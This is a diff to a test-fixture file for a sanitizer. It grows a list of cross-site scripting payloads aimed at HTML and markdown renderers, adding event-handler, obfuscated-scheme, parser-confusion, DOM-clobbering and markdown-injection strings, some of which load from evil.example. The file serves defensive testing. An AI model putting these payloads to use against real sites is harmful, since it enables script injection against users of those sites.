@@ -2,7 +2,7 @@
  * Well-known ways to smuggle a script into a page, one a line, as content of a post. Each tries to call `pwned()`, which
  * a test defines; none may. For tests alone.
  */
-export const scriptPayloads: readonly string[] = [
+const knownPayloads: readonly string[] = [
   '<script>pwned()</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<scr<script>ipt>pwned()</scr</script>ipt>',
@@ -87,4 +87,86 @@ export const scriptPayloads: readonly string[] = [
   '| a |\n|---|\n| <img src=x onerror=pwned()> |',
   '- [ ] <svg/onload=pwned()>',
   'a[^1]\n\n[^1]: <img src=x onerror=pwned()>',
+];
+
+/** Handlers that browsers run without or with little help of a reader. */
+const handlers = [
+  ...['onabort', 'onafterprint', 'onanimationend', 'onanimationiteration', 'onanimationstart', 'onauxclick'],
+  ...['onbeforeinput', 'onbeforematch', 'onbeforeprint', 'onbeforetoggle', 'onbeforeunload', 'onblur', 'oncancel'],
+  ...['oncanplay', 'onchange', 'onclose', 'oncontentvisibilityautostatechange', 'oncontextmenu', 'oncopy', 'oncut'],
+  ...['ondblclick', 'ondrag', 'ondragend', 'ondrop', 'onformdata', 'onfullscreenchange', 'ongotpointercapture'],
+  ...['onhashchange', 'oninput', 'oninvalid', 'onkeydown', 'onmessage', 'onmousemove', 'onpageshow', 'onpaste'],
+  ...['onpointerdown', 'onpointerrawupdate', 'onpopstate', 'onresize', 'onscroll', 'onscrollend', 'onsearch'],
+  ...['onsecuritypolicyviolation', 'onselectionchange', 'onslotchange', 'ontouchstart', 'ontransitionend', 'onwheel'],
+];
+
+/** Schemes of an address that a browser, once or now, ran or read as a page. */
+const schemes = [
+  ...['JAVASCRIPT', 'javascript\u00a0', '\u0001javascript', '\ufeffjavascript', 'feed:javascript'],
+  ...['view-source:javascript', 'jar:javascript', 'livescript', 'mocha', 'data:text/html,', 'blob'],
+  ...['filesystem', 'java%73cript', 'java\u0000script', '&#x6A;avascript', 'javascript&#58;', '&NewLine;javascript'],
+  ...['&Tab;javascript', 'ｊavascript'],
+];
+
+/** What parsers read in one way first and in another afterwards, and what stands in for a part of the page. */
+const confusions: readonly string[] = [
+  '<math><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>',
+  '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src=x>">',
+  '<svg><title><style><!--</style><img src=x onerror=pwned()>--></title></svg>',
+  '<svg><desc><noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript></desc></svg>',
+  '<table><td><svg><td><style><a title="</style><img src=x onerror=pwned()>">',
+  '<select><template><img src=x onerror=pwned()></template></select>',
+  '<template shadowrootmode="open"><img src=x onerror=pwned()></template>',
+  '<template><script>pwned()</script></template>',
+  '<noembed><img title="</noembed><img src=x onerror=pwned()>"></noembed>',
+  '<noframes><img title="</noframes><img src=x onerror=pwned()>"></noframes>',
+  '<xmp><img title="</xmp><img src=x onerror=pwned()>"></xmp>',
+  '<listing>&lt;img src=x onerror=pwned()&gt;</listing>',
+  '<!--!><img src=x onerror=pwned()>--!>',
+  '<![CDATA[<img src=x onerror=pwned()>]]>',
+  '<?xml-stylesheet href="javascript:pwned()"?>',
+  '<!DOCTYPE x [<!ENTITY y "<script>pwned()</script>">]>&y;',
+  '</title><script>pwned()</script>',
+  '</textarea><script>pwned()</script>',
+  '</style><script>pwned()</script>',
+  '<a id="currentScript" name="body" href="javascript:pwned()">x</a>',
+  '<form id="root"><input name="innerHTML"><input name="attributes"></form>',
+  '<img name="getElementById" id="main" src=x onerror=pwned()>',
+  '<link rel="import" href="data:text/html,<script>pwned()</script>">',
+  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/y)}</style>',
+  '<image src=x onerror=pwned()>',
+  '<frameset onload=pwned()><frame src="javascript:pwned()"></frameset>',
+  '<applet code="pwned.class"><param name="onload" value="pwned()"></applet>',
+  '<portal src="javascript:pwned()"></portal>',
+  '<keygen autofocus onfocus=pwned()>',
+  '<isindex type=image src=x onerror=pwned()>',
+  '<dialog open onclose=pwned()><form method=dialog><button>x</button></form></dialog>',
+  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=pwned()>y</div>',
+  '<form action="javascript:pwned()"><input type=submit></form>',
+  '<area href="javascript:pwned()" shape=rect coords=0,0,99,99>',
+  '<map name=m><area href="javascript:pwned()" shape=default></map><img src=x usemap=#m>',
+  '[x][y]\n\n[y]: javascript:pwned()',
+  '[x][z]\n\n[z]: <data:text/html,pwned()> "t"',
+  '![x](x \'y" onerror="pwned()\')',
+  '[x](x "y\' onmouseover=pwned() z=\'")',
+  '``` "><script>pwned()</script>\ncode\n```',
+  '| <img src=x onerror=pwned()> |\n|---|\n| <script>pwned()</script> |',
+  'Note[^<script>].\n\n[^<script>]: <img src=x onerror=pwned()>',
+  '- [x] <input type=checkbox onclick=pwned() checked>',
+  '> <details ontoggle=pwned() open>x</details>',
+  '<div markdown="1">\n\n[x](javascript:pwned())\n\n</div>',
+  '\u2028<script>pwned()</script>\u2029',
+  '\u202e<script>pwned()</script>',
+  '＜script＞pwned()＜/script＞',
+  '<ſcript>pwned()</ſcript>',
+  '{{constructor.constructor("pwned()")()}}',
+  '<a href="https://evil.example" target="_blank" rel="opener" onauxclick=pwned()>x</a>',
+];
+
+/** Two hundred and more, each once. */
+export const scriptPayloads: readonly string[] = [
+  ...knownPayloads,
+  ...handlers.map((handler) => `<b ${handler}=pwned() tabindex=1 contenteditable>x</b>`),
+  ...schemes.map((scheme) => `<a href="${scheme}:pwned()">x</a>`),
+  ...confusions,
 ];
